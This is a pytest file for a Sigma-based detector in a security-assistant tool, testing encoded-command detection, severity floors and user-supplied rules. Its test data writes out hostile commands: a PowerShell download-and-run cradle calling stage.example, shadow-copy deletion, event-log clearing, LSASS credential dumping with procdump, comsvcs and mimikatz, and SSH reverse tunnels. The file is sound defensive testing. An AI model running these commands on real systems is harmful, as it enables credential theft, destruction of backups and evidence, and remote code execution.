"""Sigma rules on what encoding hides, the floors of grave behaviour, and rules that a user adds."""

import base64
from pathlib import Path

import pytest

from schemas import Alert, Disposition, Document, Field, LogWindow, Subject
from schemas.evidence import Severity
from secassist.detectors._sigma.rules import load_rules
from secassist.detectors.base import Signal
from secassist.detectors.sigma import PLUGIN, Sigma
from secassist.errors import ConfigError

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://stage.example/a.ps1')"
RULE = (
    "title: {title}\nname: {name}\nlevel: {level}\nlogsource: {{category: x}}\n"
    "detection:\n  s: {{f: {value}}}\n  condition: s\n"
)


def encoded(command: str) -> str:
    return "powershell.exe -nop -enc " + base64.b64encode(command.encode("utf-16-le")).decode()


def alert(**fields: str) -> Alert:
    return Alert(source="t", fields=tuple(Field(path=path, value=value) for path, value in fields.items()))


def signals(subject: Subject, detector: Sigma = PLUGIN) -> dict[str, Signal]:
    return {signal.rule.removeprefix("sigma:"): signal for signal in detector.detect(subject).signals}


@pytest.fixture
def folder(tmp_path: Path):
    yield tmp_path
    load_rules.cache_clear()


def test_an_encoded_cradle_gets_the_rule_of_the_plain_one_and_a_floor() -> None:
    plain = signals(alert(host="a", command=f'powershell -c "{CRADLE}"'))["win-powershell-download-run"]
    hidden = signals(alert(host="a", command=encoded(CRADLE)))["win-powershell-download-run"]
    assert plain.floor is None and plain.lines == hidden.lines == (2,)
    assert hidden.floor is not None and hidden.floor.disposition is Disposition.SUSPICIOUS
    assert "hid" in hidden.message and hidden.techniques == plain.techniques


@pytest.mark.parametrize("kind", [LogWindow, Document])
def test_encoded_commands_in_log_lines_are_matched_at_their_line(kind: type[LogWindow] | type[Document]) -> None:
    body = f"first line\n2026-03-01 host run: {encoded(CRADLE)}\nvssadmin list shadows\n"
    found = signals(kind(source="t", body=body))
    assert found["win-powershell-download-run"].lines == (2,)
    assert found["win-powershell-download-run"].floor is not None


def test_the_line_is_that_of_the_encoded_text_however_many_lines_it_decodes_to() -> None:
    script = f"$a = 1\n$b = 2\n$c = 3\n{CRADLE}\n"
    found = signals(alert(host="a", script=f"# begins\n# goes on\n{encoded(script)}\n# ends", other="b"))
    assert found["win-powershell-download-run"].lines == (4,)


def test_harmless_encoded_text_sets_no_floor() -> None:
    found = signals(alert(command=encoded("Get-HotFix | Sort-Object InstalledOn")))
    assert all(signal.floor is None for signal in found.values())


@pytest.mark.parametrize(
    ("fields", "least"),
    [
        ({"command": "vssadmin.exe delete shadows /all /quiet"}, Disposition.SUSPICIOUS),
        ({"command": "wmic shadowcopy delete"}, Disposition.SUSPICIOUS),
        ({"command": "wevtutil cl Security"}, Disposition.SUSPICIOUS),
        ({"EventID": "1102", "Channel": "Security"}, Disposition.SUSPICIOUS),
        ({"command": "procdump64.exe -accepteula -ma lsass.exe out.dmp"}, Disposition.TRUE_POSITIVE),
        (
            {"command": "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 644 o.dmp full"},
            Disposition.TRUE_POSITIVE,
        ),
        ({"command": "m.exe privilege::debug sekurlsa::logonpasswords exit"}, Disposition.TRUE_POSITIVE),
        ({"command": encoded("vssadmin delete shadows /all")}, Disposition.SUSPICIOUS),
        ({"command": encoded("m.exe sekurlsa::logonpasswords")}, Disposition.TRUE_POSITIVE),
        ({"ImagePath": "%COMSPEC% /c " + encoded(CRADLE), "EventID": "7045"}, Disposition.SUSPICIOUS),
    ],
)
def test_grave_behaviour_has_a_floor_in_plain_and_encoded_form(fields: dict[str, str], least: Disposition) -> None:
    floors = [signal.floor for signal in signals(alert(**fields)).values() if signal.floor]
    assert least in {floor.disposition for floor in floors}
    assert all(floor.severity.rank >= Severity.HIGH.rank for floor in floors)


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("plink.exe -ssh -l tun -R 33890:127.0.0.1:3389 198.51.100.7", True),
        ("ssh -fNR 8022:localhost:22 user@198.51.100.7", True),
        ("ssh -L 3389:host.corp.example:3389 jump.corp.example", False),
        ("scp -r folder host:/srv", False),
    ],
)
def test_reverse_tunnels_to_remote_administration(command: str, found: bool) -> None:
    assert ("win-ssh-reverse-tunnel" in signals(alert(command=command))) is found


def test_an_attempt_in_a_request_is_no_proof_of_success() -> None:
    request = '203.0.113.9 - - "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 0'
    floor = signals(LogWindow(source="t", body=request))["web-php-unit-eval"].floor
    assert floor is not None and floor.disposition is Disposition.SUSPICIOUS


def test_a_users_rules_are_run_beside_ours(folder: Path) -> None:
    (folder / "deep").mkdir()
    (folder / "deep" / "mine.yml").write_text(RULE.format(title="Mine", name="my-rule", level="high", value="abc"))
    both = PLUGIN.with_rules(folder)
    found = signals(alert(f="abc", command="vssadmin delete shadows /all"), both)
    assert {"my-rule", "win-shadow-copy-delete"} <= found.keys()
    assert "my-rule" not in signals(alert(f="abc"))
    assert both.name == PLUGIN.name and both.version.startswith(f"{PLUGIN.version}+")


def test_a_users_rule_takes_the_place_of_ours_of_that_name(folder: Path) -> None:
    text = RULE.format(title="Quiet here", name="win-shadow-copy-delete", level="low", value="abc")
    (folder / "mine.yml").write_text(text)
    found = signals(alert(f="abc", command="vssadmin delete shadows /all"), PLUGIN.with_rules(folder))
    assert found["win-shadow-copy-delete"].severity is Severity.LOW


def test_other_rules_are_another_version(folder: Path) -> None:
    (folder / "mine.yml").write_text(RULE.format(title="T", name="r", level="low", value="abc"))
    first = PLUGIN.with_rules(folder).version
    load_rules.cache_clear()
    assert PLUGIN.with_rules(folder).version == first
    (folder / "mine.yml").write_text(RULE.format(title="T", name="r", level="low", value="abd"))
    load_rules.cache_clear()
    assert PLUGIN.with_rules(folder).version != first


def test_a_bad_rule_file_is_an_error_naming_file_and_reason(folder: Path) -> None:
    (folder / "good.yml").write_text(RULE.format(title="T", name="r", level="low", value="abc"))
    (folder / "bad.yml").write_text(
        "title: T\nlogsource: {category: x}\ndetection:\n  s: {f|re: '(?=a)b'}\n  condition: s\n"
    )
    with pytest.raises(ConfigError, match=r"bad\.yml:1: .*invalid"):
        PLUGIN.with_rules(folder)


def test_a_folder_without_rules_or_no_folder_is_an_error(folder: Path) -> None:
    with pytest.raises(ConfigError, match="holds no rule"):
        PLUGIN.with_rules(folder)
    with pytest.raises(ConfigError, match="not there"):
        PLUGIN.with_rules(folder / "none")
